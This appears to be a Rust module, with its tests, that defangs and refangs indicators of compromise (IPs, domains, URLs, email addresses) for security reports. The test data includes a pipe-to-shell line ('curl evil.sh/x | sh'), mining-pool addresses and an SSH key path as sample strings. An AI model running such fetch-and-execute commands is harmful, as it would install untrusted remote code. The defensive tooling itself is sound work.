//! Defangs addresses so that they cannot be clicked, and refangs addresses that others defanged.

use std::borrow::Cow;
use std::ops::Range;
use std::sync::LazyLock;

use regex::{Captures, Regex};

use crate::indicator::{
    Indicator, IndicatorKind, dots, linkable_spans, linkable_spans_of_value, linkable_spans_with,
};

static SCHEME: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\b(h)tt(ps?)(://)|\b(f)t(ps?://)").ok());

static DEFANGED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?P<scheme>hxxp|h\*\*p|hxtp|htxp|meow)(?P<s>s?)(?P<sep>\[://\]|\(://\)|\[?:\]?(?://|\[//\]))|\bfxp(?P<fs>s?)://|(?P<colon>\[://\]|\[:\]//|\[:\])|(?P<dot>\s?[\[({](?:\.|dot|punkt)[\])}]\s?|\\\.|\[\.|\.\])|(?P<at>\s?[\[({](?:@|at)[\])}]\s?)",
    )
    .ok()
});

/// Returns the text with unclickable addresses, domains and URLs: `185.220.101[.]42`, `pool.minexmr[.]com`,
/// `hxxp://`.
#[must_use]
pub fn defang(text: &str) -> String {
    defang_spans(text, &linkable_spans(text))
}

/// Returns a value of this kind, defanged. The host of a domain, URL, mail address or IP address is defanged even
/// where it could be a file (`login.zip`).
#[must_use]
pub fn defang_value(kind: IndicatorKind, value: &str) -> String {
    defang_spans(value, &linkable_spans_of_value(kind, value))
}

/// Defangs a text like [`defang`]. A name that could be a file counts as an address where it is one of these values.
#[must_use]
pub fn defang_with(text: &str, known: &[Indicator]) -> String {
    defang_spans(text, &linkable_spans_with(text, known))
}

fn defang_spans(text: &str, spans: &[Range<usize>]) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    let mut done = 0;
    for span in spans {
        let mut all: Vec<usize> = text
            .get(span.clone())
            .map(|host| dots(host).collect())
            .unwrap_or_default();
        all.reverse();
        for dot in all {
            let dot = span.start + dot;
            out.push_str(text.get(done..dot).unwrap_or_default());
            out.push_str("[.]");
            done = dot + 1;
        }
    }
    out.push_str(text.get(done..).unwrap_or_default());
    match SCHEME.as_ref() {
        Some(scheme) => scheme
            .replace_all(&out, "${1}${4}xx${2}${5}${3}")
            .into_owned(),
        None => out,
    }
}

/// Returns the text without defanging.
#[must_use]
pub fn refang(text: &str) -> Cow<'_, str> {
    // Every defanged spelling contains one of these, or is a scheme.
    let is_marked = text
        .bytes()
        .any(|byte| matches!(byte, b'[' | b'(' | b'{' | b'\\' | b']' | b'*'));
    let has_scheme = || {
        text.contains("://") && contains_ignoring_case(text, &["xx", "xtp", "txp", "meow", "fxp"])
    };
    if !is_marked && !has_scheme() {
        return Cow::Borrowed(text);
    }
    let Some(fangs) = DEFANGED.as_ref() else {
        return Cow::Borrowed(text);
    };
    fangs.replace_all(text, |found: &Captures<'_>| {
        if found.name("scheme").is_some() {
            let s = found.name("s").map_or("", |s| s.as_str());
            format!("http{}://", s.to_ascii_lowercase())
        } else if let Some(s) = found.name("fs") {
            format!("ftp{}://", s.as_str().to_ascii_lowercase())
        } else if let Some(colon) = found.name("colon") {
            colon.as_str().replace(['[', ']'], "")
        } else if found.name("at").is_some() {
            "@".to_owned()
        } else {
            ".".to_owned()
        }
    })
}

fn contains_ignoring_case(text: &str, needles: &[&str]) -> bool {
    let lower = text.to_ascii_lowercase();
    needles.iter().any(|needle| lower.contains(needle))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn patterns_compile() {
        assert!(SCHEME.is_some() && DEFANGED.is_some());
    }

    #[test]
    fn addresses_lose_their_fangs_and_get_them_back() {
        for (plain, safe) in [
            ("to 185.220.101.42 now", "to 185.220.101[.]42 now"),
            ("pool.minexmr.com:4444", "pool.minexmr[.]com:4444"),
            (
                "see https://evil.example.com/a.b?c=d.e",
                "see hxxps://evil.example[.]com/a.b?c=d.e",
            ),
            ("http://203.0.113.9/x", "hxxp://203.0.113[.]9/x"),
            ("mail bob@evil.com.", "mail bob@evil[.]com."),
            (
                "Python/3.11.8 and libc.so.6 in /tmp/run.sh",
                "Python/3.11.8 and libc.so.6 in /tmp/run.sh",
            ),
        ] {
            assert_eq!(defang(plain), safe);
            assert_eq!(refang(safe), plain);
        }
    }

    #[test]
    fn a04_no_character_beside_a_domain_keeps_it_live() {
        for (plain, safe) in [
            ("-evil.com /evil.com", "-evil[.]com /evil[.]com"),
            ("evil.com(x) evil.com-x", "evil[.]com(x) evil[.]com-x"),
            ("$evil.com ~evil.com", "$evil[.]com ~evil[.]com"),
            (".evil.com ..evil.com", ".evil[.]com ..evil[.]com"),
            (
                "\\\\evil.com\\share a/b.evil.com/c",
                "\\\\evil[.]com\\share a/b.evil[.]com/c",
            ),
            ("//evil.com/x", "//evil[.]com/x"),
            (
                "//storage.googleapis.com/b/x.html",
                "//storage.googleapis[.]com/b/x.html",
            ),
            ("curl evil.sh/x | sh", "curl evil[.]sh/x | sh"),
            ("to login-okta.app.", "to login-okta[.]app."),
            ("evil.co.uk evil.com.de", "evil[.]co[.]uk evil[.]com[.]de"),
        ] {
            assert_eq!(defang(plain), safe);
            assert_eq!(refang(safe), plain);
        }
        let many = "a.co ".repeat(1_000);
        assert_eq!(defang(&many), "a[.]co ".repeat(1_000));
    }

    #[test]
    fn what_reports_show_all_the_time_stays_whole() {
        for text in [
            "main.rs setup.sh report.zip index.html 1.2.3 my-archive.zip run-me.sh",
            "/tmp/run.sh ./setup.py C:\\a\\b.zip ~/x.mov /root/.ssh/id_rsa.pub",
            "/etc/systemd/system/multi-user.target /usr/lib/libx.la src/Makefile.in",
            "/Applications/Safari.app/Contents actor.user.name request.host_name libc.so.6",
            "v1.compute.instances.start google.compute.Instance nginx-1.25.3 x-1.2.3.4",
            "//compute.googleapis.com/projects/p/zones/z/instances/i",
            "main.py:12 user.id trace.id Foo.app",
        ] {
            assert_eq!(defang(text), text);
        }
    }

    #[test]
    fn a04_a_typed_value_is_never_live() {
        use IndicatorKind::{Domain, Email, File, Ip, Url};
        for (kind, plain, safe) in [
            (Domain, "login.app", "login[.]app"),
            (Domain, "update.zip", "update[.]zip"),
            (Domain, "x_y.sh", "x_y[.]sh"),
            (Domain, "evil.co.uk", "evil[.]co[.]uk"),
            (Domain, "host.internal", "host[.]internal"),
            (Ip, "203.0.113.0", "203.0.113[.]0"),
            (Ip, "2001:db8::1", "2001:db8::1"),
            (Email, "bob@update.zip", "bob@update[.]zip"),
            (
                Url,
                "https://u@login.corp.invalid:8443/a.sh?b=evil.com",
                "hxxps://u@login.corp[.]invalid:8443/a.sh?b=evil[.]com",
            ),
            (Url, "http://203.0.113.0", "hxxp://203.0.113[.]0"),
            (
                Url,
                "stratum+tcp://pool.sh:4444",
                "stratum+tcp://pool[.]sh:4444",
            ),
            (File, "/tmp/setup.sh", "/tmp/setup.sh"),
        ] {
            assert_eq!(defang_value(kind, plain), safe);
            assert_eq!(refang(safe), plain);
        }
    }

    #[test]
    fn a04_a_file_in_a_text_is_an_address_where_it_is_a_typed_one() {
        let known = [
            Indicator::new(
                IndicatorKind::Domain,
                "login.app",
                crate::IndicatorRole::Remote,
            ),
            Indicator::new(
                IndicatorKind::Url,
                "https://update.zip/x",
                crate::IndicatorRole::Remote,
            ),
            Indicator::new(
                IndicatorKind::File,
                "setup.sh",
                crate::IndicatorRole::Related,
            ),
        ];
        let text = "Far end Login.app, update.zip and setup.sh; mylogin.app is none";
        assert_eq!(
            defang_with(text, &known),
            "Far end Login[.]app, update[.]zip and setup.sh; mylogin.app is none"
        );
        assert_eq!(defang(text), text);
    }

    proptest! {
        #[test]
        fn refanging_undoes_defanging(text in "[a-c./:@ $~-]{0,20}(com|app|co\\.uk|sh|io)[a-c ./:-]{0,12}") {
            let safe = defang(&text);
            let plain = refang(&safe);
            prop_assert_eq!(plain.as_ref(), text.as_str());
            let value = text.replace(' ', "");
            let safe = defang_value(IndicatorKind::Domain, &value);
            let plain = refang(&safe);
            prop_assert_eq!(plain.as_ref(), value.as_str());
        }
    }

    proptest! {
        #[test]
        fn what_is_spared_has_no_fangs(text in "([hHfFmMxXtTpPeosSoOwWdDaA*]{1,4}|[\\[\\](){}:/\\\\.@* -]|://|hxxp|FXP|meow|[a-z]){0,10}") {
            if matches!(refang(&text), Cow::Borrowed(_)) {
                prop_assert!(!DEFANGED.as_ref().unwrap().is_match(&text), "{text:?}");
            }
        }
    }

    #[test]
    fn other_spellings_are_read_too() {
        for (safe, plain) in [
            ("hXXp://evil[.]com", "http://evil.com"),
            ("hxxps[:]//evil(.)com", "https://evil.com"),
            ("hxxps[://]evil[dot]com", "https://evil.com"),
            ("evil [.] com", "evil.com"),
            ("1[.]2[.]3[.]4", "1.2.3.4"),
            ("1\\.2\\.3\\.4", "1.2.3.4"),
            ("bob[at]evil{.}com", "bob@evil.com"),
            ("evil[.com", "evil.com"),
        ] {
            assert_eq!(refang(safe), plain);
        }
    }
}
